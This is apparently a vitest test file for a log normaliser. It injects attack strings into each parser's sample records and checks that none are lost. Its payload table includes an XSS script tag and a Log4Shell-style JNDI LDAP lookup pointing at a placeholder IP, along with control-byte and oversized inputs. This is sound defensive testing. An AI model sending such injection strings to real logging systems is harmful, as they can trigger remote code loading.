/*
 * Goal: attack traffic is seen, whatever program wrote it down: a record with an attack in it is parsed or becomes an
 * event of kind `pipeline_error`, in both cases with the attack in `event.original`, and nothing is dropped.
 * Method: each attack is put into each sample of each parser, in front, behind, and at the place of a word in the middle,
 * and goes through the whole normaliser. Only where redaction hides the value in which an attack stands, such as the text
 * of a message with a code, is it hidden with it; in front of a record it never is.
 */
import { Buffer } from 'node:buffer';
import { describe, expect, test } from 'vitest';
import { createNormalizer } from '../../src/normalize/create-normalizer.ts';
import { readSamples, samplesFolder } from '../../src/normalize/kit/samples.ts';
import { PARSERS } from '../../src/normalize/parsers.ts';
import { rawRecord, sampleSource } from '../raw-records.ts';

interface Attack {
  readonly bytes: Buffer;
  /** What must stand in `event.original`; other than the bytes where these are no text. */
  readonly kept: string;
}

const text = (kept: string): Attack => ({ bytes: Buffer.from(kept), kept });
const ATTACKS: Readonly<Record<string, Attack>> = {
  markup: text('<script>alert(1)</script>'),
  'an escaped TLS hello': text('\\x16\\x03\\x01\\x02'),
  'a raw TLS hello': text('\u0016\u0003\u0001\u0002'),
  'a long URL': text(`/?q=${'A'.repeat(8_192)}`),
  'invalid UTF-8': { bytes: Buffer.of(0x2f, 0xc0, 0xaf, 0xff, 0x2f), kept: '/\ufffd\ufffd\ufffd/' },
  quotes: text('"\'`"'),
  escapes: text('\\"\\\\\\n\\u0022'),
  NULs: { bytes: Buffer.of(0x61, 0, 0, 0x62), kept: 'a\\x00\\x00b' },
  'a very long line': text('x '.repeat(50_000)),
  'a line end of another system': text('a\r\rb'),
  'terminal control': text('\u001b[2J\u0007'),
  'a look-up': text('$\x7bjndi:ldap://198.51.100.7/a}'),
};
/** What stands for a value that was hidden. */
const HIDDEN = /\[(?:REDACTED|[A-Z]{2,8}):/;
const RECORDS_MAX = 6;
const normalizer = createNormalizer({ journalId: 'attacks', pseudonymKey: 'attacks' });

describe.each(PARSERS.map(({ type }) => [type] as const))('%s', (type) => {
  const records = readSamples(samplesFolder(type)).flatMap(({ records: all, settings }) =>
    all
      .filter((record) => record.trim() !== '' && record.length < 4_000)
      .slice(0, RECORDS_MAX)
      .map((record) => ({ record: Buffer.from(record), settings })),
  );

  test.each(Object.entries(ATTACKS))('%s', (_, { bytes, kept }) => {
    expect(records.length).toBeGreaterThan(0);
    for (const { record, settings } of records) {
      const source = sampleSource(type, { settings });
      for (const [place, body] of placed(bytes, record).entries()) {
        const { doc } = normalizer.normalize(rawRecord(body), source);
        const original = doc.event.original ?? '';
        if (place === 0 || !HIDDEN.test(original)) expect(original).toContain(kept);
        expect(['event', 'alert', 'metric', 'state', 'signal', 'asset', 'enrichment']).toContain(
          doc.gac?.dead_letter === undefined ? doc.event.kind : 'event',
        );
        expect(doc.event.kind === 'pipeline_error').toBe(doc.gac?.dead_letter !== undefined);
        expect(doc.gac?.dead_letter?.reason).not.toBe('parser_defect');
      }
    }
  });
});

/** In front, behind, and instead of what stands between two blanks near the middle. */
function placed(attack: Buffer, record: Buffer): readonly Buffer[] {
  const space = Buffer.from(' ');
  const from = record.indexOf(space, record.length >> 1);
  const to = from < 0 ? -1 : record.indexOf(space, from + 1);
  const middle =
    to < 0 ? [] : [Buffer.concat([record.subarray(0, from + 1), attack, record.subarray(to)])];
  return [
    Buffer.concat([attack, space, record]),
    Buffer.concat([record, space, attack, Buffer.from('.')]),
    ...middle,
  ];
}
